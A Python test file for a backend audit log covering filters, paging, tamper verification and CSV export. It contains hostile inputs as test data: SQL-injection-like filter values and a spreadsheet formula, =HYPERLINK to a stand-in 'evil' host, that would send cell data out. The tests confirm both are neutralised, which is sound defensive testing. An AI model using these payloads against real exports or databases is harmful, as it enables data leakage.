"""Reading the audit log: filters, pages, verification, export."""

import ast
import csv
import io
import re
from datetime import datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import text

from backend.accounts import audit_log, audit_words
from backend.accounts.audit_log import AuditFilter
from backend.core import audit, clock
from backend.core.access import SYSTEM, Actor, Role
from backend.core.database import Database
from backend.core.errors import InvalidInput, UnknownChoice

MARKED = "planted-secret-4711"
ROOT = Path(__file__).parents[3]


def fill(database: Database) -> None:
    with database.write() as session:
        for number in range(30):
            actor = Actor(number % 3, f"person{number % 3}", Role.ADMIN, "user")
            audit.record(
                session,
                actor,
                "mounts:mount:write" if number % 2 else "accounts:account:role",
                subject=f"thing 100%_{number}",
                outcome="succeeded" if number % 5 else "failed",
                details={"number": number, "password": MARKED},
            )


def numbers(database: Database, **wanted: object) -> list[int]:
    with database.read() as session:
        page = audit_log.list_events(
            session,
            SYSTEM,
            filters=AuditFilter(**wanted),
            limit=500,  # type: ignore[arg-type]
        )
    return [row.number for row in page.items]


def test_what_a_filter_may_begin_with_is_what_events_begin_with() -> None:
    written = {
        node.value
        for file in (ROOT / "backend").rglob("*.py")
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8")))
        if isinstance(node, ast.Constant)
        and re.fullmatch("(?!urn:)[a-z_]+:[a-z_]+:[a-z_]*", str(node.value))
    }
    assert len(written) > 60
    assert [action for action in sorted(written) if audit_words.beginnings(action)] == []


class TestListEvents:
    def test_filters_by_everything(self, database: Database) -> None:
        fill(database)
        assert len(numbers(database)) == 30
        assert len(numbers(database, actor="person1")) == 10
        assert len(numbers(database, action="accounts:")) == 15
        assert len(numbers(database, outcome="failed")) == 6
        assert numbers(database, subject="100%_29") == [30]
        assert numbers(database, since=clock.now() + timedelta(hours=1)) == []
        assert len(numbers(database, until=clock.now() + timedelta(hours=1))) == 30

    @pytest.mark.parametrize("hostile", ["%", "_", "'; --", "\\", "thing 1__"])
    def test_wildcards_are_letters(self, database: Database, hostile: str) -> None:
        fill(database)
        with pytest.raises(UnknownChoice, match="is no beginning of an action"):
            numbers(database, action=hostile)
        assert len(numbers(database, subject=hostile)) == (30 if hostile in "%_" else 0)

    def test_pages_are_bounded_and_meet_exactly(self, database: Database) -> None:
        fill(database)
        seen: list[int] = []
        before: int | None = None
        while True:
            with database.read() as session:
                page = audit_log.list_events(
                    session, SYSTEM, filters=AuditFilter(), before=before, limit=7
                )
            assert len(page.items) <= 7
            seen += [row.number for row in page.items]
            before = page.next_cursor
            if before is None:
                break
        assert seen == list(range(30, 0, -1))

    def test_refuses_times_without_a_zone(self, database: Database) -> None:
        with pytest.raises(InvalidInput, match="time zone"):
            numbers(database, since=datetime(2026, 1, 1))  # noqa: DTZ001

    def test_lists_a_row_that_was_tampered_with(self, database: Database) -> None:
        fill(database)
        with database.write() as session:
            session.execute(text("UPDATE audit_events SET details = 'no json' WHERE number = 30"))
        assert numbers(database)[0] == 30
        with database.read() as session:
            assert audit_log.verify(session, SYSTEM).first_broken == 30


class TestExportCsv:
    def test_is_a_csv_without_secrets_and_is_audited(self, database: Database) -> None:
        fill(database)
        with database.write() as session:
            made = audit_log.export_csv(session, SYSTEM, filters=AuditFilter(actor="person1"))
        rows = list(csv.DictReader(io.StringIO(made.text)))
        assert len(rows) == made.rows == 10
        assert {row["actor"] for row in rows} == {"person1"}
        assert MARKED not in made.text
        assert numbers(database, action="audit:event:export") == [31]

    def test_no_cell_is_a_formula(self, database: Database) -> None:
        evil = '=HYPERLINK("http://evil/?"&A1)'
        with database.write() as session:
            audit.record(session, SYSTEM, "a:b:c", subject=evil)
        with database.write() as session:
            made = audit_log.export_csv(session, SYSTEM, filters=AuditFilter())
        (row,) = csv.DictReader(io.StringIO(made.text))
        assert row["subject"] == "'" + evil

    def test_says_when_there_was_more(
        self, database: Database, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        fill(database)
        monkeypatch.setattr(audit_log, "MAX_EXPORT", 12)
        with database.write() as session:
            made = audit_log.export_csv(session, SYSTEM, filters=AuditFilter())
        assert (made.rows, made.truncated) == (12, True)
